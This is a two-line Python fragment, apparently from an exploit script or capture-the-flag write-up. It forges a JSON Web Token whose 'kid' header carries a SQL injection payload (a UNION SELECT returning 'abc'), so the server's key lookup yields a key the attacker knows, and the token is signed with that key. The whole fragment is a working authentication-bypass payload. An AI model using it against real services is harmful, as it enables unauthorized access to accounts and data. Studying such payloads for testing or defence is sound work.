# a comment in place of the last quotation mark
queried = forge({"alg": "HS256", "kid": "' UNION SELECT 'abc' -- "}, wanted, secret=b"abc")
